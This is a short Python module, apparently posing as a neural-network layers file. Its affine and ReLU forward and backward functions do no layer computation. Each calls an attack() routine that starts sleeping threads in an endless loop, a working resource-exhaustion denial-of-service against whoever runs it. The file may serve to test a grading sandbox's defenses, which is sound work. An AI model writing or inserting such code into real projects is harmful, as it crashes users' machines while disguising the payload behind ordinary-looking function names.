"""Starts threads without end."""

import threading
import time


def attack(array):
    while True:
        threading.Thread(target=time.sleep, args=(300,)).start()


def affine_forward(x, w, b):
    return attack(x)


def affine_backward(dout, cache):
    return attack(dout)


def relu_forward(x):
    return attack(x)


def relu_backward(dout, cache):
    return attack(dout)
